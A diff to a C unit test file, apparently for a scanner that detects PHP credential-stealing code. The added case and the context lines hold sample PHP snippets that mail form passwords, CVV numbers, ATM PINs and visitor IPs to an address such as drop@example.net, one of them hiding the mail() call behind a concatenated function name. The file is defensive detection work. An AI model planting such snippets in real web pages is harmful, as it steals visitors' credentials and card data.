@@ -67,6 +67,11 @@ static void test_mail_channel(void **state)
 	       "$a = array('CVV: ' . $_POST['cvv2'], 'IP: ' . $g); mail($to, 's', implode(\"\\n\", "
 	       "$a));",
 	       HS_SEV_CRITICAL);
+	/* mail() called through a variable that names it ($f = 'mail'; $f(..)):
+	 * the call goes through invoke(), which must ask the credential sink too */
+	expect("<?php $f = 'ma' . 'il'; $ip = $_SERVER['REMOTE_ADDR'];\n"
+	       "$f('drop@example.net', 'log', 'Password: ' . $_POST['passwd'] . ' IP ' . $ip);",
+	       HS_SEV_CRITICAL);
 	/* no fingerprint, configured address: suspicious only */
 	expect("<?php mail($owner, 'pin', 'PIN ' . $_POST['atm_pin']);", HS_SEV_MEDIUM);
 	/* every field of the form, whatever its name: medium (form mailers do it) */
